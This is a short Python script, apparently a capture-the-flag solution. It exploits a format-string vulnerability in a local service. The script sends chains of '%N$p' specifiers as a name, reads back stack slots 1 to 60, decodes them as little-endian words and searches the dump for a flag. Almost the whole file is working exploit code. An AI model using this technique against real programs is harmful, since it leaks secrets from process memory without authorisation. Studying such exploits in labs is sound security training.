"""printf(name): %N$p prints the N-th argument slot, and past the registers those are the stack,
where the master code sits. Dump slots 1..60 a dozen at a time, decode little-endian words."""

import re
import socket
import struct


def leak(first: int, count: int) -> list[int]:
    with socket.create_connection(("127.0.0.1", 9301), timeout=10) as connection:
        connection.recv(64)
        spec = ".".join(f"%{n}$p" for n in range(first, first + count))
        connection.sendall(spec.encode() + b"\n")
        received = b""
        while chunk := connection.recv(4096):
            received += chunk
    words = received.split(b"welcome, ", 1)[1].split(b"access level")[0].strip().split(b".")
    return [int(word, 16) if word.startswith(b"0x") else 0 for word in words]


memory = b""
for first in range(1, 61, 12):
    memory += b"".join(struct.pack("<Q", word) for word in leak(first, 12))
print(re.search(rb"flag\{[0-9a-f]{32}\}", memory).group(0).decode())
